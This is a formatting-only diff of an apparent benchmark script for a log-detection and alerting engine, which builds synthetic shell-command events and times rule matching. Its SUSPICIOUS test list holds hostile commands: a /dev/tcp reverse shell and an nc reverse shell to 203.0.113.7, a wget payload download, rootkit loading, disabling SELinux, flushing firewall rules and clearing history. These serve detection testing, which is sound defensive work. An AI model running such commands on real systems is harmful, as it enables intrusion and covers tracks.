@@ -46,19 +46,49 @@ if not CORPORA.is_dir():
 REF = datetime(2026, 11, 21, tzinfo=UTC)
 
 BENIGN = [
-    "ls -la /var/log", "ps aux", "grep -r error /var/log/nginx", "systemctl status nginx",
-    "df -h", "id", "uptime", "tail -n 100 /var/log/syslog", "cat /etc/hosts", "free -m",
-    "journalctl -u ssh --since today", "vim /etc/nginx/nginx.conf", "python3 /opt/app/job.py",
-    "git pull", "apt-get update", "du -sh /srv", "ss -tlnp", "ip addr", "top -b -n 1",
-    "find /srv/www -name *.php -mtime -1", "tar czf /backup/www.tgz /srv/www",
-    "rsync -a /srv/ backup01:/srv/", "mysql -e select 1", "curl -s http://127.0.0.1/health",
-    "crontab -l", "who", "last -n 20", "openssl x509 -in /etc/ssl/certs/site.pem -noout -dates",
-    "chmod 640 /var/log/app.log", "chown www-data /srv/www/upload", "sha256sum /srv/app.bin",
+    "ls -la /var/log",
+    "ps aux",
+    "grep -r error /var/log/nginx",
+    "systemctl status nginx",
+    "df -h",
+    "id",
+    "uptime",
+    "tail -n 100 /var/log/syslog",
+    "cat /etc/hosts",
+    "free -m",
+    "journalctl -u ssh --since today",
+    "vim /etc/nginx/nginx.conf",
+    "python3 /opt/app/job.py",
+    "git pull",
+    "apt-get update",
+    "du -sh /srv",
+    "ss -tlnp",
+    "ip addr",
+    "top -b -n 1",
+    "find /srv/www -name *.php -mtime -1",
+    "tar czf /backup/www.tgz /srv/www",
+    "rsync -a /srv/ backup01:/srv/",
+    "mysql -e select 1",
+    "curl -s http://127.0.0.1/health",
+    "crontab -l",
+    "who",
+    "last -n 20",
+    "openssl x509 -in /etc/ssl/certs/site.pem -noout -dates",
+    "chmod 640 /var/log/app.log",
+    "chown www-data /srv/www/upload",
+    "sha256sum /srv/app.bin",
 ]
 SUSPICIOUS = [
-    "chattr -i /etc/passwd", "setenforce 0", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
-    "base64 -d /tmp/p.b64", "nc -e /bin/sh 203.0.113.7 4444", "wget http://203.0.113.7/x -O /tmp/x",
-    "insmod /tmp/rootkit.ko", "history -c", "iptables -F", "crontab -r",
+    "chattr -i /etc/passwd",
+    "setenforce 0",
+    "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
+    "base64 -d /tmp/p.b64",
+    "nc -e /bin/sh 203.0.113.7 4444",
+    "wget http://203.0.113.7/x -O /tmp/x",
+    "insmod /tmp/rootkit.ko",
+    "history -c",
+    "iptables -F",
+    "crontab -r",
 ]
 
 
@@ -160,13 +190,23 @@ def run_detection(db: Path) -> None:
     n_alerts = len(alerts.list(limit=100_000))
     alerts.close_store()
     store.close()
-    print(json.dumps({
-        "cpu": cpu, "events": report.events, "wall": wall, "cpu_s": used,
-        "rules": len(ruleset.rules), "correlations": len(ruleset.correlations),
-        "problems": len(ruleset.problems), "detections": report.detections,
-        "alerts": n_alerts, "groups": report.groups,
-        "peak_rss_mib": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024,
-    }))
+    print(
+        json.dumps(
+            {
+                "cpu": cpu,
+                "events": report.events,
+                "wall": wall,
+                "cpu_s": used,
+                "rules": len(ruleset.rules),
+                "correlations": len(ruleset.correlations),
+                "problems": len(ruleset.problems),
+                "detections": report.detections,
+                "alerts": n_alerts,
+                "groups": report.groups,
+                "peak_rss_mib": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024,
+            }
+        )
+    )
 
 
 def run_sqlite(db: Path, work: Path) -> dict[str, Any]:
@@ -183,8 +223,11 @@ def run_sqlite(db: Path, work: Path) -> dict[str, Any]:
     os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})
     result = run_sqlite_backend(rule_paths(), events(), work / "logs.db")
     return {
-        "load": result.seconds_load, "query": result.seconds_query, "rows": result.rows,
-        "queries": len(result.matches_per_rule), "errors": len(result.errors),
+        "load": result.seconds_load,
+        "query": result.seconds_query,
+        "rows": result.rows,
+        "queries": len(result.matches_per_rule),
+        "errors": len(result.errors),
         "matches": sum(result.matches_per_rule.values()),
     }
 
@@ -209,7 +252,9 @@ def main() -> None:
             old.unlink()
         build_store(db, n)
         child = subprocess.run(
-            [sys.executable, __file__, "--run", str(db)], capture_output=True, text=True,
+            [sys.executable, __file__, "--run", str(db)],
+            capture_output=True,
+            text=True,
             check=True,
         )
         ours = json.loads(child.stdout.strip().splitlines()[-1])
